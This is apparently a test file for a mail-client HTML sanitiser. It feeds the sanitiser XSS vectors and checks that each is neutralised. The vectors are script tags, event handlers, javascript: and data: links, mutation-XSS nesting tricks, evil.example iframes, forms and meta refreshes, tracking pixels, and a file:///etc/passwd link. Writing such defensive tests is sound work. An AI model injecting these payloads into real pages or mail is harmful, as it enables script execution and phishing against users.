/** The sanitiser of held HTML mail, against the usual ways of running script or loading remote content. */
import { describe, expect, it } from 'vitest';
import { linkTarget, sanitizeMessageHtml } from '../src/message-view.js';

const LEAVE = '/q/link';

function clean(html: string): string {
  return sanitizeMessageHtml(html, LEAVE).html;
}

describe('sanitizeMessageHtml', () => {
  const vectors: Array<[string, string]> = [
    ['script element', '<script>alert(1)</script>'],
    ['event attribute', '<p onclick="alert(1)" onmouseover="alert(1)">x</p>'],
    ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['javascript: link with entities', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
    ['svg onload', '<svg onload="alert(1)"><circle/></svg>'],
    ['iframe', '<iframe src="https://evil.example/"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
    ['object', '<object data="https://evil.example/x.swf"></object>'],
    ['embed', '<embed src="https://evil.example/x.swf">'],
    ['form', '<form action="https://evil.example/"><input name="p"><button>go</button></form>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['base', '<base href="https://evil.example/">'],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['style element', '<style>@import url(https://evil.example/x.css)</style>'],
    ['img onerror', '<img src=x onerror="alert(1)">'],
    ['remote image', '<img src="https://tracker.example/pixel.gif">'],
    ['svg image data', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['srcset', '<img srcset="https://tracker.example/a.png 1x">'],
    ['background attribute', '<table background="https://tracker.example/bg.png"><tr><td>x</td></tr></table>'],
    ['unclosed tricks', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['template', '<template><script>alert(1)</script></template>'],
  ];
  for (const [name, html] of vectors) {
    it(`neutralises: ${name}`, () => {
      const out = clean(html);
      expect(out).not.toMatch(/<(script|iframe|object|embed|form|input|meta|base|link|svg|math|style|template)\b/i);
      expect(out).not.toMatch(/\son\w+\s*=/i);
      expect(out).not.toMatch(/javascript:|vbscript:|evil\.example|tracker\.example|srcset|background=/i);
      expect(out).not.toMatch(/data:(?!image\/(png|gif|jpeg|webp);)/i);
    });
  }

  it('rewrites http, https and mailto links to the leave page and opens them in the top window', () => {
    const out = clean('<a href="https://example.org/a?b=1&c=2">x</a><a href="mailto:bob@example.org">m</a><a href="/relative">r</a>');
    expect(out).toContain(`href="${LEAVE}?u=${encodeURIComponent('https://example.org/a?b=1&c=2')}"`);
    expect(out).toContain(`href="${LEAVE}?u=${encodeURIComponent('mailto:bob@example.org')}"`);
    expect(out).toContain('target="_top"');
    expect(out).toContain('rel="noopener noreferrer"');
    expect(out).toContain('<a>r</a>');
  });

  it('keeps inline pictures, formatting and counts what it blocked', () => {
    const result = sanitizeMessageHtml(
      '<p style="color:red"><b>Hi</b></p><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"><img src="https://t.example/x.gif" alt="track">',
      LEAVE,
    );
    expect(result.html).toContain('<p style="color:red"><b>Hi</b></p>');
    expect(result.html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" />');
    expect(result.html).toContain('<span>[image: track]</span>');
    expect(result.blockedImages).toBe(1);
  });

  it('accepts only absolute http and https URLs, and mailto URLs naming addresses, as link targets', () => {
    expect(linkTarget('https://example.org/')?.hostname).toBe('example.org');
    expect(linkTarget('mailto:a@example.org')?.protocol).toBe('mailto:');
    expect(linkTarget('mailto:a@example.org,b@example.org?subject=Hi')?.protocol).toBe('mailto:');
    for (const bad of ['javascript:alert(1)', 'data:text/html,x', '/q/1', 'file:///etc/passwd', '', undefined, `https://x.example/${'a'.repeat(5000)}`,
      'mailto:Your mailbox is full. Call +1 800 555 0100', 'mailto:?subject=x', 'mailto:a@example.org,Call us now', 'mailto:%E0%A4%A@x.org']) {
      expect(linkTarget(bad)).toBeUndefined();
    }
  });
});
